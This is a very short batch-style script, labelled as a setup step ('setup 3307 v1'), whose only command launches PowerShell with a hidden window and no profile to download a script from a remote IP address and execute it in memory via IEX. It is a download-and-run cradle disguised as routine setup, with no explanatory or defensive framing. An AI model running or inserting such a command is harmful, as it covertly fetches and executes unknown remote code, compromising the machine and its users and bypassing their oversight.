REM setup 3307 v1
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/a.ps1')"
